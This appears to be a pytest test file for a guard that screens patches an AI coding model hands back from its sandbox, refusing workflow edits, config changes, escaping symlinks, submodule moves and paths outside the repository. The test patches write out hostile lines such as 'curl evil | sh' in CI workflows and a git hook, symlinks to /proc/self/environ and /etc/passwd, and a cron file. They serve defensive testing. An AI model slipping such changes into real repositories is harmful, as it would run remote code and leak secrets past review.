"""The worker's guard on the way out, over real git: whatever patch the sandbox hands back, the
worker publishes no workflow change, no change to the app's own config, no link out of the
repository and no submodule move; it reads no file through a link; and a patch that reaches
outside the tree or into .git is refused whole.

The patches are what a compromised model would produce in its sandbox (made here with git in a
scratch clone), or written by hand where git itself would never make them.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from workers.change_guard import (
    CONFIG_REASON,
    GITLINK_REASON,
    LINK_REASON,
    WORKFLOW_REASON,
    LeftOut,
    StagedFile,
    escapes,
    leave_out_reason,
    staged_files,
)
from workers.git import GitAuth, GitError, git
from workers.publish import stage
from workers.workspace import Checkout

FILES = {
    "calc.py": "def add(a, b):\n    return a - b\n",
    ".github/workflows/ci.yml": "on: push\n",
    ".github/qwen-fix.yml": "test: pytest\n",
    "docs/index.md": "docs\n",
}


def run(*args: str, cwd: Path) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=cwd, check=True, capture_output=True, text=True,
    )  # fmt: skip
    return done.stdout


@pytest.fixture
def repo(tmp_path: Path) -> tuple[Checkout, Path]:
    """A mirror with one commit (the job's base) and a scratch clone to make patches in."""
    source = tmp_path / "source"
    source.mkdir()
    for name, text in FILES.items():
        (source / name).parent.mkdir(parents=True, exist_ok=True)
        (source / name).write_text(text)
    run("init", "-q", "-b", "main", cwd=source)
    run("add", "-A", cwd=source)
    run("commit", "-q", "-m", "base", cwd=source)
    mirror = tmp_path / "mirror.git"
    run("clone", "-q", "--mirror", str(source), str(mirror), cwd=tmp_path)
    base = run("rev-parse", "HEAD", cwd=source).strip()
    job_dir = tmp_path / "job"
    job_dir.mkdir()
    found = Checkout("o/r", str(mirror), "main", base, base, mirror, GitAuth("unused"), job_dir)
    return found, source


def patch_of(source: Path, script: str, *, add: bool = True) -> str:
    """The change `script` makes in the scratch clone, as the sandbox's diff reports it."""
    subprocess.run(["sh", "-c", script], cwd=source, check=True)
    if add:
        run("add", "-A", cwd=source)
    return run("diff", "--cached", "--binary", "HEAD", cwd=source)


async def test_a_hostile_change_loses_exactly_what_must_not_be_published(
    repo: tuple[Checkout, Path],
) -> None:
    found, source = repo
    patch = patch_of(
        source,
        "sed -i 's/a - b/a + b/' calc.py && "
        "echo 'on: [push, pull_request_target]' > .github/workflows/ci.yml && "
        "echo 'run: curl evil | sh' > .github/workflows/new.yml && "
        "echo 'setup: curl evil | sh' > .github/qwen-fix.yml && "
        "ln -s /proc/self/environ leak && ln -s ../../etc/passwd docs/passwd && "
        "ln -s calc.py alias.py && ln -s ../calc.py docs/calc.py",
    )
    left_out = await stage(found, patch)
    assert sorted(left_out, key=lambda item: item.path) == [
        LeftOut(".github/qwen-fix.yml", CONFIG_REASON),
        LeftOut(".github/workflows/ci.yml", WORKFLOW_REASON),
        LeftOut(".github/workflows/new.yml", WORKFLOW_REASON),
        LeftOut("docs/passwd", LINK_REASON),
        LeftOut("leak", LINK_REASON),
    ]
    staged = {f.path: f for f in await staged_files(found.publish_tree)}
    assert sorted(staged) == ["alias.py", "calc.py", "docs/calc.py"]
    # Links inside the repository stay links: mode 120000 and their target as the blob.
    assert staged["alias.py"].mode == "120000"
    target = await git("cat-file", "blob", staged["alias.py"].sha, cwd=found.publish_tree)
    assert target == "calc.py"
    # The commit made from the index holds none of what was left out.
    await git("commit", "-q", "-m", "fix", cwd=found.publish_tree)
    tree = await git("ls-tree", "-r", "HEAD", cwd=found.publish_tree)
    assert "leak" not in tree and "new.yml" not in tree
    shown = await git("show", "HEAD:.github/workflows/ci.yml", cwd=found.publish_tree)
    assert shown == FILES[".github/workflows/ci.yml"]


async def test_a_submodule_pointer_is_left_out(repo: tuple[Checkout, Path]) -> None:
    found, source = repo
    sha = run("rev-parse", "HEAD", cwd=source).strip()
    patch = patch_of(
        source,
        f"git update-index --add --cacheinfo 160000,{sha},vendor/lib && echo x >> docs/index.md"
        " && git add docs/index.md",
        add=False,
    )
    assert "Subproject commit" in patch
    assert await stage(found, patch) == [LeftOut("vendor/lib", GITLINK_REASON)]


@pytest.mark.parametrize(
    ("name", "patch"),
    [
        (
            "a path above the tree",
            "diff --git a/../outside b/../outside\nnew file mode 100644\n"
            "--- /dev/null\n+++ b/../outside\n@@ -0,0 +1 @@\n+x\n",
        ),
        (
            "a path inside .git",
            "diff --git a/.git/hooks/post-commit b/.git/hooks/post-commit\n"
            "new file mode 100755\n--- /dev/null\n+++ b/.git/hooks/post-commit\n"
            "@@ -0,0 +1 @@\n+curl evil | sh\n",
        ),
        (
            "an absolute path",
            "diff --git a//etc/cron.d/x b//etc/cron.d/x\nnew file mode 100644\n"
            "--- /dev/null\n+++ b//etc/cron.d/x\n@@ -0,0 +1 @@\n+x\n",
        ),
        (
            "a file beyond a link it creates",
            "diff --git a/out b/out\nnew file mode 120000\n--- /dev/null\n+++ b/out\n"
            "@@ -0,0 +1 @@\n+/tmp\n\\ No newline at end of file\n"
            "diff --git a/out/planted b/out/planted\nnew file mode 100644\n--- /dev/null\n"
            "+++ b/out/planted\n@@ -0,0 +1 @@\n+x\n",
        ),
    ],
)
async def test_a_patch_reaching_outside_the_tree_is_refused_whole(
    repo: tuple[Checkout, Path], tmp_path: Path, name: str, patch: str
) -> None:
    found, _ = repo
    with pytest.raises(GitError):
        await stage(found, patch)
    assert not (tmp_path / "outside").exists()
    assert not (Path("/tmp") / "planted").exists()


@pytest.mark.parametrize(
    ("path", "target", "escaping"),
    [
        ("leak", "/proc/self/environ", True),
        ("a/b", "../../x", True),
        ("a/b", "../x", False),
        ("a", "..", True),
        ("a", ".", False),
        ("a", "", True),
        ("deep/er/link", "../../top", False),
        ("deep/er/link", "../../../top", True),
        ("x", "sub/../../y", True),
    ],
)
def test_which_links_lead_out_of_the_repository(path: str, target: str, escaping: bool) -> None:
    assert escapes(path, target.encode()) is escaping


@pytest.mark.parametrize(
    ("path", "mode", "reason"),
    [
        (".github/workflows/ci.yml", "100644", WORKFLOW_REASON),
        (".github/workflows/sub/x.yml", "000000", WORKFLOW_REASON),
        (".github/qwen-fix.yml", "100644", CONFIG_REASON),
        (".github/workflows-notes.md", "100644", None),
        (".github/dependabot.yml", "100644", None),
        ("vendor/lib", "160000", GITLINK_REASON),
        ("src/app.py", "100755", None),
    ],
)
def test_which_paths_are_left_out(path: str, mode: str, reason: str | None) -> None:
    assert leave_out_reason(StagedFile(path, "100644", mode, "0" * 40)) == reason
